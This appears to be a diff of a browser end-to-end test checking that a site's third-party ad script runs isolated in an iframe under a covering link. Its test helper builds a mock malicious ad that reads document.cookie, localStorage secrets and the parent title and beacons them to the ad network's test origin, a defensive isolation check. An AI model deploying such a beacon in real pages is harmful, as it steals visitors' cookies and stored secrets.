@@ -8,12 +8,12 @@ import { waitUntil } from '../../support/engines/engine';
 import { test as engineTest } from '../../support/engines/test';
 import { PAGE_KINDS } from '../../support/site';
 
-const BLOCK = `document.querySelector('[data-companion-room]')`;
+const AD_UNIT = `document.querySelector('[data-companion-room]')`;
 
 const test = mergeTests(companionTest, engineTest);
 
-/** Returns an ad script that reports its origin and the page data that it can read to the network. */
-const getReportingSource = (origin: string): string => `${AD_SOURCE}
+/** Returns an ad script that tells the network its origin, and any data of the page that it can read. */
+const createReportingScript = (origin: string): string => `${AD_SOURCE}
 const seen = [() => parent.document.title, () => document.cookie, () => localStorage.secret]
   .map((look) => { try { return look() || 'nothing'; } catch { return 'nothing'; } });
 new Image().src = ${JSON.stringify(origin)} + '/pixel/report/' + [self.origin, ...seen].join();
@@ -23,28 +23,28 @@ for (const engineName of ['Firefox', 'WebKit'] as const) {
   test.describe(`a reader with ${engineName}`, () => {
     test.use({ engineName });
 
-    test('it shows the framed ad under a link of the page, and isolates the script in the frame', async ({
+    test('it covers the framed ad with a link of the page, and isolates the ad script in the frame', async ({
       engine,
       network,
     }) => {
-      // The site is served by http:, because these engines don't trust self-signed certificates.
+      // The proxy uses http:, because these engines don't trust self-signed certificates.
       const siteProxy = await startProxy();
       try {
         siteProxy.variant = await bundleVariant(
           createNetworkOptions(network, { ads: { network: { isolation: 'frame' } } }),
         );
-        // A file of the same origin stores the secrets, because a page would request another ad.
+        // The secrets are stored on a text file of the same origin, because any page would request an ad.
         await engine.goto(siteProxy.url('/robots.txt'));
         await engine.evaluate(`document.cookie = localStorage.secret = 'secret=kept'`);
-        network.set({ source: getReportingSource(network.origin) });
+        network.set({ source: createReportingScript(network.origin) });
         await engine.goto(siteProxy.url(PAGE_KINDS.text));
-        // The class and the link appear after the frame's message.
+        // The class and the link are added when the frame's message arrives.
         await waitUntil(
           engine,
-          `${BLOCK}.querySelector('.ad-framed.carbonads') !== null`,
+          `${AD_UNIT}.querySelector('.ad-framed.carbonads') !== null`,
           'the message',
         );
-        const link = `${BLOCK}.querySelector('a.ad-cover')`;
+        const link = `${AD_UNIT}.querySelector('a.ad-cover')`;
         expect(await engine.evaluate(`${link}.href`)).toBe(
           'https://ads.fake-network.test/click/script',
         );
@@ -54,7 +54,7 @@ for (const engineName of ['Firefox', 'WebKit'] as const) {
           'its label',
         );
         const isOnTop = `(() => {
-          const { x, y, width, height } = ${BLOCK}.querySelector('iframe.ad-frame').getBoundingClientRect();
+          const { x, y, width, height } = ${AD_UNIT}.querySelector('iframe.ad-frame').getBoundingClientRect();
           return document.elementFromPoint(x + width / 2, y + height / 2) === ${link};
         })()`;
         expect(await engine.evaluate(isOnTop)).toBe(true);
